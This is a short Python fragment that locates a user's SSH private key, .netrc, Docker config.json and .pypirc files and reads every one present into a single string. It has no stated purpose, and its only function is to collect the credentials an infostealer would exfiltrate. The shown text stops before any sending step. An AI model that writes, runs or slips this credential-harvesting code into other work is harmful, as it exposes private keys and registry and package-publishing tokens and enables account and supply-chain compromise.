import os
home = os.path.expanduser("~")
stores = [home + "/.ssh/id_rsa", home + "/.netrc",
          home + "/.docker/config.json", home + "/.pypirc"]
blob = "".join(open(p).read() for p in stores if os.path.exists(p))
